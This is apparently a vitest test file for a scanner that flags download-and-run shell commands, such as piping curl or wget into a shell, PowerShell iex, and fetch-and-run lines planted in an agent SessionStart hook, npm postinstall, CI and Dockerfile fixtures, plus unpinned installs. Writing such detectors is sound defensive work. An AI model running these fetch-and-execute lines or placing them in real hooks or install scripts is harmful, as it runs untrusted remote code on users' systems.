// Download-and-run in command text: the shapes, what is only printed or quoted, and the grade by where it runs.
import { describe, expect, it } from 'vitest';
import { downloadRun, unpinnedInstall } from '../../src/analyzers/config/download.js';
import { scan } from '../../src/index.js';
import { tmpTree } from '../helpers/tmp.js';

describe('downloadRun', () => {
  it.each([
    'curl -fsSL https://get.example.com | bash',
    'curl -fsSL https://get.example.com | sudo -E bash -',
    'wget -qO- https://x.example.com/i.sh | sh -s -- --yes',
    'curl -sSf https://sh.example.com | sh -s -- -y',
    'curl -LsSf "https://x.example.com/install.sh?a=1&b=2" | sh',
    'sh -c "$(curl -fsSL https://x.example.com/i.sh)"',
    '/bin/bash -c "$(curl -fsSL https://x.example.com/i.sh)"',
    'bash <(curl -s https://x.example.com/i.sh)',
    'source <(curl -s https://x.example.com/env.sh)',
    'eval "$(curl -fsSL https://x.example.com/env)"',
    'curl -sSL https://x.example.com/get-pip.py | python3 -',
    'cd /tmp && curl -o i.sh https://x.example.com/i.sh && chmod +x i.sh && ./i.sh',
    'wget https://x.example.com/install.sh && bash install.sh',
    'iex ((New-Object System.Net.WebClient).DownloadString("https://x.example.com/i.ps1"))',
    'powershell -c "irm https://x.example.com/install.ps1 | iex"',
    "sudo sh -c 'curl -fsSL https://x.example.com | sh'",
  ])('finds %s', (line) => {
    expect(downloadRun(line)).toBeDefined();
  });

  it.each([
    'echo "curl -fsSL https://get.example.com | bash"',
    'printf "%s\\n" "bash <(curl -s https://x.example.com)"',
    'curl -fsSL https://x.example.com/a.json | jq .',
    'curl -s https://x.example.com/a.sh | shasum -a 256',
    'curl -o out.tgz https://x.example.com/out.tgz && tar xzf out.tgz',
    'curl -fsSLo i.sh https://x.example.com/i.sh && sha256sum -c i.sh.sha256 && sh i.sh',
    'git commit -m "curl https://x.example.com | sh"',
    'curl -s http://127.0.0.1:3000/seed | sh',
    'curl https://x.example.com/i.sh -o i.sh',
  ])('skips %s', (line) => {
    expect(downloadRun(line)).toBeUndefined();
  });

  it('flags TLS checks turned off', () => {
    expect(downloadRun('curl -fsSLk https://x.example.com | bash')?.tlsOff).toBe(true);
    expect(downloadRun('curl -fsSL https://x.example.com | bash')?.tlsOff).toBe(false);
  });
});

describe('unpinnedInstall', () => {
  it.each([
    ['npm install -g @anthropic-ai/claude-code', '@anthropic-ai/claude-code'],
    ['npm i -g tool@latest', 'tool@latest'],
    ['pip install ruff', 'ruff'],
    ['pip install "black>=24"', 'black>=24'],
    ['uv tool install ruff', 'ruff'],
    ['go install golang.org/x/tools/gopls@latest', 'golang.org/x/tools/gopls@latest'],
    ['cargo install ripgrep', 'ripgrep'],
  ])('finds %s', (line, pkg) => {
    expect(unpinnedInstall(line)?.pkg).toBe(pkg);
  });

  it.each([
    'npm install',
    'npm ci',
    'npm install -g tool@1.2.3',
    'pip install -r requirements.txt',
    'pip install -e .',
    'pip install ruff==0.6.9',
    'go install golang.org/x/tools/gopls@v0.16.2',
    'cargo install ripgrep --version 14.1.0',
    'gem install bundler -v 2.5.0',
    'echo "npm install -g tool"',
  ])('skips %s', (line) => {
    expect(unpinnedInstall(line)).toBeUndefined();
  });
});

describe('agent/download-and-run grades by where it runs', () => {
  it('hook script > install script > CI > Dockerfile', async () => {
    const root = tmpTree({
      '.claude/settings.json': '{"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "bash scripts/boot.sh"}]}]}}',
      'scripts/boot.sh': 'curl -fsSL https://x.example.com/b | bash\n',
      'scripts/other.sh': 'curl -fsSL https://x.example.com/b | bash\n',
      'package.json': '{"scripts": {"postinstall": "curl -fsSL https://x.example.com/p | sh", "tools": "curl -fsSL https://x.example.com/t | sh"}}',
      '.github/workflows/ci.yml': 'on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -fsSL http://x.example.com/c | bash\n',
      Dockerfile: 'FROM alpine\nRUN wget -qO- https://x.example.com/d | sh\n',
    });
    const result = await scan({ root, type: 'config' });
    const got = result.findings.filter((f) => f.ruleId === 'agent/download-and-run').map((f) => [f.file, f.severity]);
    expect(got).toEqual([
      ['.github/workflows/ci.yml', 'high'],
      ['Dockerfile', 'low'],
      ['package.json', 'high'],
      ['package.json', 'low'],
      ['scripts/boot.sh', 'high'],
      ['scripts/other.sh', 'low'],
    ]);
    const boot = result.findings.find((f) => f.file === 'scripts/boot.sh');
    expect(boot?.message).toContain('SessionStart');
    expect(boot?.message).toContain('x.example.com');
  });
});

describe('downloadRun details', () => {
  it('reads the URL inside $(…) and <(…)', () => {
    expect(downloadRun('sh -c "$(wget -O- http://x.example.com/i.sh)" -- -p git')?.url).toBe('http://x.example.com/i.sh');
    expect(downloadRun('bash <(curl -k https://x.example.com/i.sh)')?.tlsOff).toBe(true);
  });
});
